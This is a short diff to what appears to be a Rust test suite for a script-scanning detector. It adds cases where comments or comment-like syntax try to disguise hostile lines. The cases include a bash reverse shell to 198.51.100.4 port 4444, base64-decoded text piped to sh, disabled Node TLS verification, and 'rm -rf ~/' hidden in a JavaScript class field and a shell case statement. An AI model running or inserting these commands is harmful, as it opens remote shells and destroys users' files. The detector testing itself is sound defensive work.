@@ -4,6 +4,13 @@ use super::technique_tests::{Case, case};
 
 /// Attacks with an excuse that changes nothing.
 const EXCUSED: &[Case] = &[
+    // The comment belongs to the line above.
+    case("PA207", "a.sh", ": # exec 3<>/dev/tcp/localhost/ (\nbash -i >& /dev/tcp/198.51.100.4/4444 0>&1\n"),
+    case("PA101", "a.sh", ": # echo $x | base64 -d (\necho aGk= | base64 -d | sh\n"),
+    case("PA224", "a.sh", ": # localhost (\nexport NODE_TLS_REJECT_UNAUTHORIZED=0\n"),
+    // What looks like a comment runs.
+    case("PA210", "a.js", "class A {\n  #x = require('child_process').execSync('rm -rf ~/ ')\n}\nnew A()\n"),
+    case("PA210", "a.sh", "case x in\n* ) rm -rf ~/ ;;\nesac\n"),
     // Another URL in the statement is harmless.
     case(
         "PA121",
